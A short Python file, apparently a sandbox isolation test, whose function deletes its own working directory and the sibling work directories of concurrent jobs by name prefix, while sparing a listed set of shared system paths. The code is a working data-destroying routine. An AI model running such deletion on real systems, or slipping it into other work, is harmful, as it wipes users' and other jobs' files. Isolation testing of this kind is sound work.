# ruff: noqa: F821
"""Delete the work dir from inside, and the sibling work dirs of concurrent jobs (never a shared
system dir such as /tmp: that would wreck the host if the sandbox failed); the next job must not care."""
import os
import shutil

SHARED = {"/", "/tmp", "/var/tmp", "/dev/shm", "/root", "/home", "/work", "/run", "/var", "/usr"}


def f():
    here = os.getcwd()
    shutil.rmtree(here, ignore_errors=True)
    parent = os.path.dirname(here)
    if parent not in SHARED and not os.path.exists(os.path.join(parent, ".git")):
        for name in os.listdir(parent) if os.path.isdir(parent) else []:
            if name.startswith(("job", "run", "work", "scratch", "tmp", "cg")):
                shutil.rmtree(os.path.join(parent, name), ignore_errors=True)
    os.chdir("/")
    return "deleted"
